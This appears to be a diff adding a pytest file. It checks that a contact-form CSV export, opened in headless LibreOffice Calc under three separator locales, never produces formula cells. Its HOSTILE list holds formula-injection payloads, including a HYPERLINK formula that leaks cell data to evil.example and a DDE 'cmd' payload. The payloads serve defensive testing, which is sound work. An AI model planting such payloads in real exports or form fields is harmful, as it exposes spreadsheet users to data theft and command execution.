@@ -1,0 +1,135 @@
+"""The CSV export, opened by a real spreadsheet program (LibreOffice Calc, headless) as a comma, a semicolon
+and a tab locale would read it: no cell ever holds a formula, and names, messages and phone numbers read as
+the visitor typed them."""
+
+from __future__ import annotations
+
+import os
+import random
+import shutil
+import subprocess
+import xml.etree.ElementTree as ET
+from pathlib import Path
+
+import pytest
+
+from csv_export import COLUMNS, neutralise, to_csv
+
+SOFFICE = shutil.which("soffice")
+TABLE = "{urn:oasis:names:tc:opendocument:xmlns:table:1.0}"
+TEXT = "{urn:oasis:names:tc:opendocument:xmlns:text:1.0}"
+SEPARATORS = {"comma": 44, "semicolon": 59, "tab": 9}  # LibreOffice's CSV filter takes character codes
+# What a visitor may type to reach a formula in any locale.
+HOSTILE = [
+    "=1+1",
+    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
+    "@SUM(1+1)",
+    "+1+cmd|' /C calc'!A0",
+    "-1+1",
+    "ok;=1+1",
+    "ok,=1+1",
+    "ok\t=1+1",
+    'ok; "=1+1',
+    '";=1+1;"',
+    '",=1+1,"',
+    "line one\n=1+1",
+    "line one\r\n@SUM(1)",
+    "\t=1+1",
+]
+# Ordinary text that must survive unchanged.
+AS_TYPED = {
+    "first_name": ["Zoë", "O'Brien", "Anne-Marie", "José María"],
+    "last_name": ["Lovelace", "de la Cruz", "Müller-Lüdenscheidt", "Ng"],
+    "phone_number": ["+44 20 7946 0000", "(555) 123-4567", "+1-202-555-0143", "+33 1 23 45 67 89"],
+    "message": [
+        "Hello, we'd like a quote; two sites.",
+        'She said "hi" and left.\nSecond line',
+        "Price: 10,- EUR (net)",
+        "Emoji 😀 and ünïcödé",
+    ],
+}
+
+
+def generated(count: int) -> list[str]:
+    """Seeded text dense in separators, quotes, line breaks and formula characters."""
+    rng = random.Random(20261126)
+    alphabet = "=+-@;,\t\r\n\" 'aZ09().|%&!"
+    return ["".join(rng.choices(alphabet, k=rng.randint(1, 40))) for _ in range(count)]
+
+
+def _items() -> list[dict[str, str]]:
+    items = [{"created_at": "2026-11-26T10:00:00.000Z", "status": "new", "message": text} for text in HOSTILE]
+    items += [{"created_at": "2026-11-26T10:00:00.000Z", "status": "new", "company": text} for text in HOSTILE]
+    for n in range(4):
+        items.append(
+            {"created_at": "2026-11-26T11:00:00.000Z", "status": "new", **{k: v[n] for k, v in AS_TYPED.items()}}
+        )
+    return items
+
+
+def _open_in_calc(csv_path: Path, separator: int, work: Path) -> list[list[tuple[str | None, str]]]:
+    """Each row's cells as (formula, text), after Calc imported the file and saved it as flat ODF."""
+    if not SOFFICE:
+        message = "LibreOffice Calc is not installed (make spreadsheet-deps)"
+        if os.environ.get("CI"):
+            pytest.fail(message)
+        pytest.skip(message)
+    out = work / f"out-{separator}"
+    subprocess.run(
+        [SOFFICE, f"-env:UserInstallation=file://{work}/profile", "--headless", f"--infilter=CSV:{separator},34,76,1",
+         "--convert-to", "fods", "--outdir", str(out), str(csv_path)],
+        check=True, capture_output=True, timeout=180,
+    )  # fmt: skip
+    rows = []
+    for row in ET.parse(out / f"{csv_path.stem}.fods").getroot().iter(f"{TABLE}table-row"):
+        cells = []
+        for cell in row.iter(f"{TABLE}table-cell"):
+            text = "\n".join(_paragraph(p) for p in cell.findall(f"{TEXT}p"))
+            repeat = min(int(cell.get(f"{TABLE}number-columns-repeated", "1")), len(COLUMNS))
+            cells += [(cell.get(f"{TABLE}formula"), text)] * repeat
+        rows.append(cells)
+    return rows
+
+
+def _paragraph(element: ET.Element) -> str:
+    """A paragraph's text as typed: ODF writes tabs, runs of spaces and line breaks as elements."""
+    out = [element.text or ""]
+    for child in element:
+        if child.tag == f"{TEXT}s":
+            out.append(" " * int(child.get(f"{TEXT}c", "1")))
+        elif child.tag == f"{TEXT}tab":
+            out.append("\t")
+        elif child.tag == f"{TEXT}line-break":
+            out.append("\n")
+        else:
+            out.append(_paragraph(child))
+        out.append(child.tail or "")
+    return "".join(out)
+
+
+@pytest.fixture(scope="module")
+def export(tmp_path_factory: pytest.TempPathFactory) -> Path:
+    path = tmp_path_factory.mktemp("export") / "submissions.csv"
+    path.write_text(to_csv(_items()), encoding="utf-8")  # to_csv writes the BOM itself
+    return path
+
+
+@pytest.mark.parametrize("locale", list(SEPARATORS))
+def test_no_cell_holds_a_formula_in_any_locale(export: Path, tmp_path: Path, locale: str) -> None:
+    rows = _open_in_calc(export, SEPARATORS[locale], tmp_path)
+    assert len(rows) > len(HOSTILE)
+    formulas = [(n, text) for n, row in enumerate(rows) for formula, text in row if formula]
+    assert formulas == [], f"{locale}: cells Calc made into formulas"
+
+
+def test_names_messages_and_phone_numbers_read_as_typed(export: Path, tmp_path: Path) -> None:
+    rows = _open_in_calc(export, SEPARATORS["comma"], tmp_path)
+    header = [text for _, text in rows[0]][: len(COLUMNS)]
+    assert header == list(COLUMNS)
+    read = [dict(zip(header, (text for _, text in row), strict=False)) for row in rows[1:]]
+    for n in range(4):
+        row = read[2 * len(HOSTILE) + n]
+        for column, values in AS_TYPED.items():
+            assert row[column] == values[n], (column, row[column])
+    for n, text in enumerate(HOSTILE):  # shown as text, with at most an apostrophe before a formula character
+        assert read[n]["message"] == neutralise(text).replace("\r\n", "\n")
